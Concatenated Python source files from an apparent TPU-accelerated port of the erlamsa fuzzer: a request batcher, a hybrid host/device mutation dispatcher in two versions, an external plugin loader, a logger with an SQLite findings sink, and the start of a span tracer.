                rids[:len(reqs)] = [r.rid for r in reqs]
                with trace.span("batcher.pack", reqs=len(reqs)):
                    packed = pack(seeds + pad, capacity=self.capacity)
                t0 = time.monotonic()

                def _step_once():
                    # retry is only sound while inputs survive a failed
                    # attempt: donation invalidates buffers on SUCCESS,
                    # and a dispatch that raised never consumed them
                    chaos.fault_point("batcher.step")
                    return step(self._base, rids, packed.data, packed.lens)

                with trace.span("batcher.dispatch", reqs=len(reqs)):
                    data, lens = STEP_RETRY.call(
                        _step_once, site="batcher.step",
                    )
                self.flushes += 1
                self.served += len(reqs)
                self._fill.update(len(reqs) / self.batch)
            except BaseException:  # lint: broad-except-ok must answer stranded requests first
                # a dispatch error must not strand the collected requests
                # until their client timeout: answer empty (the
                # fsupervisor give-up convention) before the supervisor
                # restarts this loop
                for r in reqs:
                    r.done.set()
                self._slots.release()
                raise
            metrics.GLOBAL.record_drain_backlog(self._inflight.qsize() + 1)
            self._inflight.put((reqs, data, lens, t0))

    def _drain(self):
        import numpy as np

        from ..ops.buffers import Batch, unpack

        while True:
            reqs, data, lens, t0 = self._inflight.get()
            try:
                with trace.span("batcher.drain", reqs=len(reqs)):
                    results = unpack(Batch(np.asarray(data), np.asarray(lens)))
            except BaseException:  # lint: broad-except-ok unblock waiters before the restart
                for r in reqs:
                    r.done.set()
                self._slots.release()
                raise
            dt = time.monotonic() - t0
            self._step_ewma = (dt if self._step_ewma <= 0.0
                               else 0.3 * dt + 0.7 * self._step_ewma)
            metrics.GLOBAL.record_stage("batcher_drain", dt)
            # dt spans dispatch→forced-results: the device-batch latency
            metrics.GLOBAL.observe("batch_latency", dt)
            now = time.monotonic()
            for r, res in zip(reqs, results):
                r.result = res
                r.done.set()
                metrics.GLOBAL.record_request(now - r.t_enq)
            self._slots.release()
            metrics.GLOBAL.record_serving(self.stats())

    def fuzz(self, data: bytes, opts: dict, timeout: float = 90.0) -> bytes:
        if len(data) > self.capacity:
            # overflow-to-host escape: full fidelity beats truncation
            with self._overflow_lock:
                if self._overflow is None:
                    self._overflow = OracleBatcher(
                        workers=2, max_running_time=self._max_running_time
                    )
                overflow = self._overflow
            return overflow.fuzz(data, opts, timeout)
        req = _Req(data, opts)
        with self._rid_lock:
            req.rid = self._rid
            self._rid += 1
        self._q.put(req)
        if not req.done.wait(timeout):
            return b""
        return req.result


def service_budget(opts: dict) -> float:
    """Per-case budget for service modes: -T when given, else the
    reference's 30s service default (src/erlamsa_cmdparse.erl:109-111)."""
    mrt = opts.get("maxrunningtime")
    return 30.0 if mrt is None else float(mrt)


def make_batcher(backend: str, **kw):
    if backend == "tpu":
        return TpuBatcher(**{k: v for k, v in kw.items()
                             if k in ("batch", "capacity", "max_latency_ms",
                                      "seed", "max_running_time",
                                      "inflight", "warm")})
    return OracleBatcher(workers=kw.get("workers", 10),
                         max_running_time=kw.get("max_running_time", 30.0))
