"""Hybrid dispatcher: full-mutator-set fuzzing with device batches.

The device engine covers 30 closed-form mutators (r5 moved ab ad len
ft fn fo onto the device as payload-table / sizer-field / context-match
splices); the structured tail (sgm js tree* b64 uri zip) runs in the
oracle. The reference's mux draws one mutator per event from the whole
weighted set — the hybrid dispatcher reproduces that split at the
*sample* level:

  1. per sample, estimate which registry rows are applicable (cheap host
     heuristics mirroring the mutators' own guards),
  2. draw host-vs-device from the applicable priority mass,
  3. device samples ride one fuzz_batch call; host samples fan out to an
     oracle worker pool restricted to the host subset.

This keeps the TPU busy with the bulk of the corpus while the host handles
the structured minority (SURVEY.md §7 phase 3's host/device split). The
split weights use score*priority mass like the reference's mux
(src/erlamsa_mutations.erl:1238-1250): device scores come from the live
scheduler state the batch runner passes in, host scores evolve here from
observed outcomes (+1 on a mutator that changed data, -1 on a failed
draw, clamped to [MIN_SCORE, MAX_SCORE]).
"""

from __future__ import annotations

import base64 as b64mod
import binascii
import concurrent.futures as cf
import os

import numpy as np

from ..ops.registry import DEVICE_CODES, HOST_CODES
from ..utils.bytehelpers import binarish
from .hostpool import host_worker as _host_worker


def sample_traits(data: bytes) -> dict:
    """Cheap per-sample predicates the host-mutator guards key on —
    computed ONCE per sample, whatever the number of registry rows."""
    import re

    maybe_b64 = False
    chunk = data.strip()
    if len(chunk) > 6 and len(chunk) % 4 == 0:
        try:
            b64mod.b64decode(chunk, validate=True)
            maybe_b64 = True
        except (binascii.Error, ValueError):
            pass
    stripped = data[:64].lstrip()
    return {
        "is_bin": binarish(data),
        # a '<' immediately followed by a name/bang/slash — the shape the
        # SGML tokenizer actually turns into a tag, unlike a bare 0x3C byte
        "has_tag": re.search(rb"<[A-Za-z!/?]", data[:4096]) is not None,
        # tree mutators walk bracket/paren/brace/quote structure
        # (models/treeops.py): without any opener the oracle draw fails,
        # so plain text must not weigh toward the host for them
        "has_tree": re.search(rb"[(\[{<\"']", data[:4096]) is not None,
        "looks_json": stripped[:1] in (b"{", b"[", b'"')
        or stripped[:1].isdigit(),
        "is_zip": data[:4] in (b"PK\x03\x04", b"PK\x05\x06"),
        # gzip magic: the oracle's cp (compressed) pattern decompresses,
        # mutates and recompresses these — device patterns cannot
        "is_gz": data[:2] == b"\x1f\x8b",
        "has_uri": b"://" in data,
        "maybe_b64": maybe_b64,
        "size": len(data),
    }


def row_applicable(code: str, traits: dict) -> bool:
    """Does host mutator `code`'s guard plausibly pass for a sample with
    these traits (mirrors each mutator's own cheap precondition)."""
    if code == "sgm":
        return traits["has_tag"]
    if code == "js":
        return traits["looks_json"]
    if code == "zip":
        return traits["is_zip"]
    if code == "uri":
        return traits["has_uri"]
    if code == "b64":
        return traits["maybe_b64"]
    if code in ("tr2", "td", "ts1", "ts2", "tr"):
        # r5: require actual bracket/quote structure, mirroring the tree
        # walkers' own no-opener failure — "not binary" alone routed every
        # text sample hostward for 8 priority points of tree mass
        return (not traits["is_bin"]) and traits["has_tree"]
    return True


def host_applicable_mass(data: bytes, selected: dict[str, int]) -> int:
    """Priority mass of host mutators whose guards plausibly pass for this
    sample."""
    traits = sample_traits(data)
    return sum(
        pri for code, pri in selected.items()
        if code in HOST_CODES and pri > 0 and row_applicable(code, traits)
    )


class HybridDispatcher:
    """Splits a corpus batch into device and host work per case."""

    #: neutral starting score — the reference inits rows at max(2, rand(10))
    #: (src/erlamsa_mutations.erl:1385-1395), mean ~6
    NEUTRAL_SCORE = 6.0
    MIN_SCORE, MAX_SCORE = 2.0, 10.0

    #: CONSTRAINT (ADVICE r4): with the process pool, __init__ mutates
    #: process-global os.environ (JAX_PLATFORMS=cpu, PALLAS_AXON_POOL_IPS
    #: removed) for the duration of worker warmup (<= 60s) so spawned
    #: workers never inherit the parent's TPU env. Any OTHER thread
    #: initializing jax in that window would silently land on the CPU
    #: backend. Safe on the single-threaded batchrunner path; library
    #: callers must construct HybridDispatcher before starting threads
    #: that touch jax (or set ERLAMSA_HOST_POOL=thread).

    def __init__(self, selected: list[tuple[str, int]], seed,
                 host_workers: int | None = None,
                 max_running_time: float = 30.0):
        self.selected = dict(selected)
        self.device_pri = np.asarray(
            [max(self.selected.get(c, 0), 0) for c in DEVICE_CODES], np.float64
        )
        self.host_rows = [
            (c, p) for c, p in self.selected.items() if c in HOST_CODES and p > 0
        ]
        # evolving per-mutator host scores (reference adjust_priority
        # semantics, src/erlamsa_mutations.erl:1238-1242)
        self.host_scores = {c: self.NEUTRAL_SCORE for c, _ in self.host_rows}
        self.seed = seed
        # per-sample wall-clock budget for host-routed oracle cases
        # (reference service-mode MaxRunningTime default 30s,
        # src/erlamsa_cmdparse.erl:109-111); a hung structured mutator is
        # abandoned and the device output stands in at merge time
        self.max_running_time = max_running_time
        self._appl_cache: np.ndarray | None = None
        self._arch_cache: np.ndarray | None = None
        self._appl_corpus: list | None = None
        workers = host_workers or min(8, (os.cpu_count() or 2))
        # The oracle is pure Python, so a thread pool is GIL-bound — the
        # reference gets REAL parallelism from Erlang processes. On
        # multicore hosts use a spawn process pool (spawn, not fork: the
        # parent may hold an initialized TPU backend, and the oracle path
        # imports no jax so spawned workers stay accelerator-free).
        # ERLAMSA_HOST_POOL=thread|process overrides.
        kind = os.environ.get(
            "ERLAMSA_HOST_POOL",
            "process" if (os.cpu_count() or 1) > 1 else "thread",
        )
        if kind == "process":
            import multiprocessing as mp

            self._pool: cf.Executor = cf.ProcessPoolExecutor(
                max_workers=workers, mp_context=mp.get_context("spawn")
            )
            # force worker bootstrap NOW, under a known-safe env: this
            # image's sitecustomize imports jax into every interpreter,
            # and a bare jax import can block when the axon relay is
            # wedged — workers must never inherit the parent's TPU env
            from .hostpool import warmup

            saved = {k: os.environ.get(k)
                     for k in ("JAX_PLATFORMS", "PALLAS_AXON_POOL_IPS")}
            os.environ["JAX_PLATFORMS"] = "cpu"
            os.environ.pop("PALLAS_AXON_POOL_IPS", None)
            try:
                # the timeout also covers a worker HANGING in bootstrap
                # (e.g. a blocked import this env scrub didn't prevent):
                # TimeoutError routes to the same degrade path
                list(self._pool.map(warmup, range(workers), timeout=60))
            except Exception as e:  # lint: broad-except-ok degrade to thread pool on any bootstrap failure
                # a worker died or hung during bootstrap: reap the
                # executor rather than leak its workers, and degrade to
                # the thread pool — slower (GIL-bound) but functional
                from . import logger

                logger.log(
                    "warning",
                    "host process pool failed during warmup (%s: %s); "
                    "degrading to a GIL-bound thread pool",
                    type(e).__name__, e,
                )
                # kill the workers before discarding the executor: a
                # worker HUNG in bootstrap is non-daemon and cannot be
                # cancelled, and concurrent.futures' atexit hook would
                # otherwise join it forever at interpreter exit
                for p in getattr(self._pool, "_processes", {}).values():
                    try:
                        p.terminate()
                    except Exception:  # lint: broad-except-ok already-dead worker is fine
                        pass
                self._pool.shutdown(wait=False, cancel_futures=True)
                self._pool = cf.ThreadPoolExecutor(max_workers=workers)
            finally:
                for k, v in saved.items():
                    if v is None:
                        os.environ.pop(k, None)
                    else:
                        os.environ[k] = v
        else:
            self._pool = cf.ThreadPoolExecutor(max_workers=workers)

    def _applicability(self, seeds: list[bytes]) -> np.ndarray:
        """bool[B, H]: host row h applicable to sample b. Computed once per
        corpus (the batch runner reuses one immutable corpus across cases);
        scores multiply in per case, so the cache stays valid as they
        evolve."""
        if self._appl_cache is None or self._appl_corpus is not seeds:
            rows = []
            arch = []
            for s in seeds:
                traits = sample_traits(s)  # one scan per sample
                rows.append([row_applicable(c, traits)
                             for c, _p in self.host_rows])
                arch.append(traits["is_zip"] or traits["is_gz"])
            self._appl_cache = np.asarray(rows, bool).reshape(
                len(seeds), len(self.host_rows)
            )
            # archive/compressed containers: only the oracle's ar/cp
            # PATTERNS can mutate inside these, so they weigh toward the
            # host even though no single host MUTATOR claims them
            self._arch_cache = np.asarray(arch, bool)
            self._appl_corpus = seeds
        return self._appl_cache

    def split(self, case_idx: int, seeds: list[bytes],
              device_scores=None) -> np.ndarray:
        """bool[B]: True = host-routed. Deterministic in (seed, case,
        score state) — the RNG is keyed on the integer seed values, NOT
        Python's salted hash, so routing reproduces across processes.

        device_scores: the live int32[B, M] scheduler state (registry
        order); when omitted, a neutral score stands in."""
        out = np.zeros(len(seeds), bool)
        if not self.host_rows:
            return out
        seed_ints = (
            list(self.seed) if isinstance(self.seed, tuple) else [int(self.seed)]
        )
        rng = np.random.default_rng([*seed_ints, case_idx, 0x48594252])
        host_w = np.asarray(
            [p * self.host_scores[c] for c, p in self.host_rows], np.float64
        )
        hm = self._applicability(seeds) @ host_w
        if device_scores is not None:
            dm = np.asarray(device_scores, np.float64) @ self.device_pri
        else:
            dm = np.full(len(seeds), self.NEUTRAL_SCORE * self.device_pri.sum())
        # zip/gzip containers: only the oracle's ar/cp PATTERNS mutate
        # inside these. ar + cp carry weight 1 each against the device
        # patterns' summed weight of 9 (src/erlamsa_patterns.erl:394-405),
        # so scaling the bonus off dm routes a container sample hostward
        # with at least the reference's 2/11 pattern probability
        hm = hm + self._arch_cache * dm * (2.0 / 9.0)
        total = hm + dm
        draws = rng.random(len(seeds))
        probs = np.where(total > 0, hm / np.maximum(total, 1e-9), 0.0)
        return draws < probs

    def _bump(self, name: str, delta: float):
        if name in self.host_scores:
            self.host_scores[name] = min(
                self.MAX_SCORE, max(self.MIN_SCORE,
                                    self.host_scores[name] + delta)
            )

    def fuzz_host(self, case_idx: int, idx_seeds: list[tuple[int, bytes]],
                  defer_scores: bool = False):
        """Oracle fuzz for host-routed samples; returns {index: bytes}
        (or (results, metas) with defer_scores=True — a pipelined caller
        applies outcomes via apply_outcomes() at a deterministic point so
        overlapped cases can't race the routing state). Observed outcomes
        feed the evolving host scores. A case exceeding max_running_time
        is abandoned (absent from the result dict), so the batch loop
        never stalls on one adversarial sample."""
        def ts_for(i: int):
            return (
                (self.seed[0], self.seed[1] ^ case_idx,
                 self.seed[2] ^ (i + 1))
                if isinstance(self.seed, tuple)
                else (1, case_idx, i + 1)
            )

        jobs = [
            (i, data, ts_for(i), self.host_rows, self.max_running_time)
            for i, data in idx_seeds
        ]
        results = {}
        metas = []
        for i, out, meta in self._pool.map(_host_worker, jobs):
            if out is None:
                continue
            results[i] = out
            metas.append(meta)
        if defer_scores:
            return results, metas
        self.apply_outcomes(metas)
        return results

    def apply_outcomes(self, metas) -> None:
        """Fold observed used/failed outcomes into the host scores (and
        the global per-mutator applied/failed counters)."""
        from . import metrics

        for meta in metas:
            for entry in meta:
                if not (isinstance(entry, tuple) and len(entry) == 2):
                    continue
                tag, val = entry
                if tag == "used":
                    self._bump(val, +1.0)
                    metrics.GLOBAL.record_mutator(val, applied=True)
                elif tag == "failed":
                    self._bump(val, -1.0)
                    metrics.GLOBAL.record_mutator(val, applied=False)

    def close(self):
        self._pool.shutdown(wait=False)
