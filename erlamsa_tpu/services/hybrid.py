"""Hybrid dispatcher: full-mutator-set fuzzing with device batches.

The device engine covers 24 closed-form mutators; the structured tail
(sgm js ab ad tree* ft fn fo len b64 uri zip) runs in the oracle. The
reference's mux draws one mutator per event from the whole weighted set —
the hybrid dispatcher reproduces that split at the *sample* level:

  1. per sample, estimate which registry rows are applicable (cheap host
     heuristics mirroring the mutators' own guards),
  2. draw host-vs-device from the applicable priority mass,
  3. device samples ride one fuzz_batch call; host samples fan out to an
     oracle worker pool restricted to the host subset.

This keeps the TPU busy with the bulk of the corpus while the host handles
the structured minority (SURVEY.md §7 phase 3's host/device split). The
split probabilities follow priorities, not evolving scores (documented
approximation — scores evolve within each engine).
"""

from __future__ import annotations

import base64 as b64mod
import binascii
import concurrent.futures as cf
import os

import numpy as np

from ..ops.registry import DEVICE_CODES, HOST_CODES
from ..utils.bytehelpers import binarish


def host_applicable_mass(data: bytes, selected: dict[str, int]) -> int:
    """Priority mass of host mutators whose guards plausibly pass for this
    sample (mirrors each mutator's own cheap precondition)."""
    import re

    mass = 0
    is_bin = binarish(data)
    # a '<' immediately followed by a name/bang/slash — the shape the SGML
    # tokenizer actually turns into a tag, unlike a bare 0x3C byte
    has_tag = re.search(rb"<[A-Za-z!/?]", data[:4096]) is not None
    stripped = data[:64].lstrip()
    looks_json = stripped[:1] in (b"{", b"[", b'"') or (
        stripped[:1].isdigit()
    )
    is_zip = data[:4] in (b"PK\x03\x04", b"PK\x05\x06")
    has_uri = b"://" in data
    maybe_b64 = False
    chunk = data.strip()
    if len(chunk) > 6 and len(chunk) % 4 == 0:
        try:
            b64mod.b64decode(chunk, validate=True)
            maybe_b64 = True
        except (binascii.Error, ValueError):
            pass

    for code, pri in selected.items():
        if code not in HOST_CODES or pri <= 0:
            continue
        if code == "sgm" and not has_tag:
            continue
        if code == "js" and not looks_json:
            continue
        if code == "zip" and not is_zip:
            continue
        if code == "uri" and not has_uri:
            continue
        if code == "b64" and not maybe_b64:
            continue
        if code in ("tr2", "td", "ts1", "ts2", "tr", "ab", "ad") and is_bin:
            continue
        if code == "len" and len(data) <= 10:
            continue
        mass += pri
    return mass


class HybridDispatcher:
    """Splits a corpus batch into device and host work per case."""

    def __init__(self, selected: list[tuple[str, int]], seed,
                 host_workers: int | None = None):
        self.selected = dict(selected)
        self.device_mass = sum(
            p for c, p in self.selected.items() if c in DEVICE_CODES and p > 0
        )
        self.host_rows = [
            (c, p) for c, p in self.selected.items() if c in HOST_CODES and p > 0
        ]
        self.seed = seed
        self._mass_cache: np.ndarray | None = None
        self._mass_corpus: list | None = None
        self._pool = cf.ThreadPoolExecutor(
            max_workers=host_workers or min(8, (os.cpu_count() or 2))
        )

    def _masses(self, seeds: list[bytes]) -> np.ndarray:
        """Per-sample host priority mass, computed once per corpus (the
        batch runner reuses one immutable corpus across cases)."""
        if self._mass_cache is None or self._mass_corpus is not seeds:
            self._mass_cache = np.asarray(
                [host_applicable_mass(s, self.selected) for s in seeds],
                np.int64,
            )
            self._mass_corpus = seeds
        return self._mass_cache

    def split(self, case_idx: int, seeds: list[bytes]) -> np.ndarray:
        """bool[B]: True = host-routed. Deterministic in (seed, case) —
        the RNG is keyed on the integer seed values, NOT Python's salted
        hash, so routing reproduces across processes."""
        out = np.zeros(len(seeds), bool)
        if not self.host_rows:
            return out
        seed_ints = (
            list(self.seed) if isinstance(self.seed, tuple) else [int(self.seed)]
        )
        rng = np.random.default_rng([*seed_ints, case_idx, 0x48594252])
        hm = self._masses(seeds)
        total = hm + self.device_mass
        draws = rng.random(len(seeds))
        probs = np.where(total > 0, hm / np.maximum(total, 1), 0.0)
        return draws < probs

    def fuzz_host(self, case_idx: int, idx_seeds: list[tuple[int, bytes]]):
        """Oracle fuzz for host-routed samples; returns {index: bytes}."""
        from ..oracle.engine import fuzz

        def one(item):
            i, data = item
            return i, fuzz(
                data,
                seed=(self.seed[0], self.seed[1] ^ case_idx,
                      self.seed[2] ^ (i + 1))
                if isinstance(self.seed, tuple)
                else (1, case_idx, i + 1),
                mutations=self.host_rows,
            )

        return dict(self._pool.map(one, idx_seeds))

    def close(self):
        self._pool.shutdown(wait=False)
