"""External extension modules: the -e hook.

Reference: erlamsa loads compiled beams declaring ``capabilities()`` in
{mutations, post, generator, fuzzer, monitor, logger, pattern}
(erlamsa_cmdparse:parse_external, src/erlamsa_cmdparse.erl:456-470;
examples external_muta.erl / external_nhrp.erl). Here an external module is
any importable Python module with the same contract:

    def capabilities() -> set[str]            # which hooks it provides
    def mutations() -> list[tuple]            # [(score, pri, fn, name)]
        where fn(ctx, ll, meta) -> (fn', ll', meta', delta)
    def generator() -> (blocks, meta)         # genfuz source
    def grammar() -> genfuzz grammar          # alternative genfuz source
    def post(data: bytes) -> bytes            # output post-processor
    def fuzzer(proto, data, session) -> bytes # gfcomms/proxy fuzzer

This is the seam the north star's `-m xla` style backends plug through —
the TPU batch engine itself is wired in-process, but third-party mutators
load exactly like the reference's external_muta example.
"""

from __future__ import annotations

import importlib
from ..constants import MAX_SCORE


class ExternalModule:
    def __init__(self, module_name: str):
        self.mod = importlib.import_module(module_name)
        caps = getattr(self.mod, "capabilities", lambda: set())()
        self.capabilities = set(caps)

    def custom_mutations(self, ctx) -> list[list]:
        """Rows appended to the oracle registry
        (make_mutator's CustomMutas, src/erlamsa_mutations.erl:1370-1383)."""
        if "mutations" not in self.capabilities:
            return []
        rows = []
        for entry in self.mod.mutations():
            if len(entry) == 4:
                score, pri, fn, name = entry
            else:
                score, pri, fn, name, _desc = entry
            rows.append([score or MAX_SCORE, pri,
                         self._wrap_mutation(ctx, fn), name])
        return rows

    def _wrap_mutation(self, ctx, fn):
        """Adapt (ctx, ll, meta) -> ... to the mux's (ll, meta) protocol.
        The continuation returned to the mux is always the wrapper (wrapping
        whatever continuation the module returned), never the raw fn."""

        def make(cur):
            def wrapped(ll, meta):
                res = cur(ctx, ll, meta)
                if len(res) == 4:
                    nfn, nll, nmeta, delta = res
                else:
                    nfn, nll, nmeta = res
                    delta = 1
                cont = wrapped if nfn is cur else make(nfn)
                return cont, nll, nmeta, delta

            return wrapped

        return make(fn)

    def generator(self):
        if "generator" in self.capabilities and hasattr(self.mod, "generator"):
            return self.mod.generator
        if hasattr(self.mod, "grammar"):
            from ..models.genfuzz import make_external_generator

            return make_external_generator(self.mod.grammar())
        return None

    def post(self):
        if "post" in self.capabilities:
            return self.mod.post
        return None

    def fuzzer(self):
        if "fuzzer" in self.capabilities:
            return self.mod.fuzzer
        return None


def load_external(module_name: str | None) -> ExternalModule | None:
    if not module_name:
        return None
    return ExternalModule(module_name)
