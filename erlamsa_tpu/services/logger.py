"""Logging service: fire-and-forget, multi-sink.

Reference: src/erlamsa_logger.erl — a single logger process with
stdout/stderr/file/CSV/syslog-UDP sinks, 8 levels, capped data payloads,
hex/str render modes. Here a thread with a queue (so fuzzing never blocks
on logging, like the reference's fire-and-forget global:send) feeding the
configured sinks.
"""

from __future__ import annotations

import json
import queue
import socket
import sys
import threading
import time
from typing import Callable

from ..constants import MAX_LOG_DATA

LEVELS = {
    "critical": 0, "error": 1, "warning": 2, "finding": 3,
    "info": 4, "meta": 5, "decision": 6, "debug": 7,
}

LOG_FORMATS = ("text", "json")


def _component_of(msg: str) -> str:
    """Component tag from the established message convention — a short
    'component: ...' prefix ('corpus: device lost', 'faas: ...'). Used
    only for the structured format; absent prefix -> '-'."""
    head, sep, _rest = msg.partition(":")
    if sep and head and len(head) <= 24 and " " not in head:
        return head
    return "-"


class Logger:
    def __init__(self):
        self._sinks: list[tuple[int, Callable[[str], None]]] = []
        self._q: queue.Queue = queue.Queue()
        self._thread: threading.Thread | None = None
        self._log_data = True
        self._format = "text"

    def add_sink(self, level: str, write: Callable[[str], None]):
        self._sinks.append((LEVELS.get(level, 4), write))
        self._ensure_thread()

    def remove_sink(self, write: Callable[[str], None]):
        """Detach a sink added with add_sink (tests and short-lived
        captures; the reference's logger never detaches sinks)."""
        self._sinks = [(lv, w) for lv, w in self._sinks if w is not write]

    def configure(self, spec: dict):
        """spec like the -L options: {"stdout": level, "file": (path, level),
        "csv": (path, level), "syslog": (host, port, level),
        "sqlite": (path, level)}
        (erlamsa_logger:build_logger, src/erlamsa_logger.erl:194-228)."""
        if "stdout" in spec:
            self.add_sink(spec["stdout"], lambda s: print(s, flush=True))
        if "stderr" in spec:
            self.add_sink(
                spec["stderr"], lambda s: print(s, file=sys.stderr, flush=True)
            )
        if "file" in spec:
            path, level = spec["file"]
            fd = open(path, "a")
            self.add_sink(level, lambda s: (fd.write(s + "\n"), fd.flush()))
        if "csv" in spec:
            path, level = spec["csv"]
            fd = open(path, "a")
            self.add_sink(
                level, lambda s: (fd.write(s.replace("\t", ",") + "\n"), fd.flush())
            )
        if "syslog" in spec:
            host, port, level = spec["syslog"]
            sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            self.add_sink(
                level, lambda s: sock.sendto(b"<134>" + s.encode(), (host, port))
            )
        if "sqlite" in spec:
            path, level = spec["sqlite"]
            self.add_sink(level, SqliteSink(path))
        if spec.get("no_io_logging"):
            self._log_data = False
        if "format" in spec:
            self.set_format(spec["format"])

    def set_format(self, fmt: str):
        """'text' (the tab-separated default) or 'json' (--log-format
        json): one object per line with level/ts/component/span_id, so
        log lines correlate with flight-recorder dumps and trace spans
        by span_id."""
        if fmt not in LOG_FORMATS:
            raise ValueError(f"log format must be one of {LOG_FORMATS}, "
                             f"got {fmt!r}")
        self._format = fmt

    def _ensure_thread(self):
        if self._thread is None:
            self._thread = threading.Thread(target=self._drain, daemon=True)
            self._thread.start()
            # cover EVERY exit path (service modes return/raise from many
            # places): queued records get a bounded chance to reach
            # durable sinks before the daemon drain thread dies
            import atexit

            atexit.register(self.flush)

    def _drain(self):
        while True:
            lvl, line = self._q.get()
            for sink_lvl, write in self._sinks:
                if lvl <= sink_lvl:
                    try:
                        write(line)
                    except Exception:  # lint: broad-except-ok a broken sink must not kill the log loop
                        pass
            self._q.task_done()

    def flush(self, timeout: float = 5.0) -> None:
        """Block until queued records have reached the sinks (bounded).
        The drain thread is a daemon — without this, records logged just
        before process exit (a finding from the last case, typically the
        most interesting one) could be lost."""
        if self._thread is None:
            return
        with self._q.all_tasks_done:
            end = time.monotonic() + timeout
            while self._q.unfinished_tasks:
                left = end - time.monotonic()
                if left <= 0 or not self._q.all_tasks_done.wait(left):
                    break

    def log(self, level: str, fmt: str, *args):
        """Fire-and-forget (erlamsa_logger:log/3)."""
        if not self._sinks:
            return
        ts = time.strftime("%Y-%m-%d %H:%M:%S")
        msg = fmt % args if args else fmt
        if self._format == "json":
            from ..obs import trace

            line = json.dumps({
                "ts": ts, "level": level, "component": _component_of(msg),
                "span_id": trace.current_span_id(), "msg": msg,
            })
        else:
            line = f"{ts}\t{level}\t{msg}"
        self._q.put((LEVELS.get(level, 4), line))

    def log_data(self, level: str, fmt: str, args, data: bytes, render="str"):
        """Log with a (capped) data payload (erlamsa_logger:log_data/4)."""
        if not self._sinks or not self._log_data:
            return
        payload = data[:MAX_LOG_DATA]
        shown = payload.hex() if render == "hex" else repr(payload)
        self.log(level, (fmt % tuple(args) if args else fmt) + " " + shown)


class SqliteSink:
    """Queryable log sink: the reference can log into an mnesia table and
    query findings after the run (erlamsa_logger.erl:194-228 + the mnesia
    sink wiring); here the durable, file-based analogue is sqlite. Every
    row commits immediately — findings must survive the very crash they
    describe — and the connection is lock-guarded because the drain thread
    writes while CLI queries may read from elsewhere."""

    def __init__(self, path: str):
        import sqlite3

        # busy timeout + WAL: a concurrent --list-findings reader must not
        # make the per-row durable commit raise 'database is locked' (the
        # drain loop's blanket except would silently drop the finding row)
        self._conn = sqlite3.connect(path, check_same_thread=False,
                                     timeout=5.0)
        self._op_err = sqlite3.OperationalError
        try:
            self._conn.execute("PRAGMA journal_mode=WAL")
        except Exception:  # lint: broad-except-ok WAL may be unsupported on this fs
            pass
        self._conn.execute(
            "CREATE TABLE IF NOT EXISTS log ("
            " id INTEGER PRIMARY KEY AUTOINCREMENT,"
            " ts TEXT, level TEXT, message TEXT)"
        )
        self._conn.execute(
            "CREATE INDEX IF NOT EXISTS log_level ON log(level)"
        )
        self._conn.commit()
        self._lock = threading.Lock()

    def __call__(self, line: str) -> None:
        if line.startswith("{"):
            # --log-format json lines: pull the columns out of the object
            # instead of mis-splitting on tabs inside the JSON
            try:
                rec = json.loads(line)
                ts = str(rec.get("ts", ""))
                level = str(rec.get("level", "info"))
                msg = str(rec.get("msg", line))
            except ValueError:
                ts, level, msg = "", "info", line
        else:
            parts = line.split("\t", 2)
            ts, level, msg = (parts if len(parts) == 3
                              else ("", "info", line))
        with self._lock:
            for attempt in (0, 1):
                try:
                    self._conn.execute(
                        "INSERT INTO log (ts, level, message) VALUES (?, ?, ?)",
                        (ts, level, msg),
                    )
                    self._conn.commit()
                    break
                except self._op_err:
                    # locked despite the busy timeout: roll the pending
                    # INSERT back (a failed commit leaves it in the open
                    # transaction — retrying without rollback would record
                    # the row twice), then retry once before letting the
                    # drain loop drop it
                    try:
                        self._conn.rollback()
                    except self._op_err:
                        pass
                    if attempt:
                        raise
                    time.sleep(0.05)


def query_log(path: str, level: str | None = None, like: str | None = None,
              limit: int | None = 1000) -> list[tuple[int, str, str, str]]:
    """Read entries back from a SqliteSink database — usable after the
    logged-about process is long gone (the restored mnesia capability).
    level filters exactly; like is a substring match on the message;
    limit=None returns everything. Raises FileNotFoundError for a missing
    path (sqlite3.connect would otherwise create a junk empty DB there)
    and ValueError for a file that is not a findings store."""
    import os as _os
    import sqlite3

    if not _os.path.exists(path):
        raise FileNotFoundError(f"no findings store at {path!r}")
    conn = sqlite3.connect(path)
    try:
        q = "SELECT id, ts, level, message FROM log"
        cond, params = [], []
        if level is not None:
            cond.append("level = ?")
            params.append(level)
        if like is not None:
            cond.append("message LIKE ?")
            params.append(f"%{like}%")
        if cond:
            q += " WHERE " + " AND ".join(cond)
        q += " ORDER BY id"
        if limit is not None:
            q += " LIMIT ?"
            params.append(limit)
        try:
            return list(conn.execute(q, params))
        except sqlite3.OperationalError as e:
            raise ValueError(f"{path!r} is not a findings store: {e}") from e
    finally:
        conn.close()


GLOBAL = Logger()


def log(level: str, fmt: str, *args):
    GLOBAL.log(level, fmt, *args)


def log_data(level: str, fmt: str, args, data: bytes, render="str"):
    GLOBAL.log_data(level, fmt, args, data, render)
