"""Low-overhead span tracer with Chrome-trace-event export.

Spans wrap the pipeline's hot stages (batcher enqueue→flush→step→drain,
corpus plan→upload→device-step→score→feedback, dist RPCs, host-oracle
calls). Each span gets a COUNTER-KEYED id (a process-wide monotonic
counter, never wall clock or entropy — ids must be stable enough to
correlate with JSON log lines, not random) and monotonic-clock timing.

Disabled (the default), ``span()`` is one attribute read returning a
shared no-op context manager — the <1% overhead contract the bench
corpus stage pins. Enabled, completed spans append one small dict to a
bounded in-memory event list exported as Chrome trace events
(``{"traceEvents": [...]}``), loadable in Perfetto / chrome://tracing,
and are mirrored into the flight recorder ring (obs/flight.py) so a
crash dump carries the seconds of spans before the incident.

``--xprof DIR`` additionally starts a ``jax.profiler`` trace into DIR
and annotates every span as a TraceAnnotation so XLA device timelines
and host spans line up in XProf/TensorBoard. jax is imported lazily and
only on that path — this module stays stdlib-pure otherwise.
"""

from __future__ import annotations

import json
import os
import threading
import time

from . import flight

#: bounded event list: ~100 bytes/event, 500k events ~ 50MB worst case;
#: beyond it events are dropped and counted (never silently)
MAX_EVENTS = 500_000


class _NoopSpan:
    """The disabled-path singleton: every method is a no-op."""

    __slots__ = ()

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        return False

    def annotate(self, **attrs):
        return self

    @property
    def span_id(self):
        return 0


_NOOP = _NoopSpan()


class Span:
    """One live span. Use as a context manager; timing is monotonic
    (perf_counter) and never feeds back into replay values — the
    fuzzlint no-wallclock rule enforces that spans stay write-only from
    replay paths."""

    __slots__ = ("tracer", "name", "attrs", "span_id", "parent_id",
                 "_t0", "_xprof_ctx", "_remote_parent")

    def __init__(self, tracer: "Tracer", name: str, attrs: dict,
                 remote_parent: int = 0):
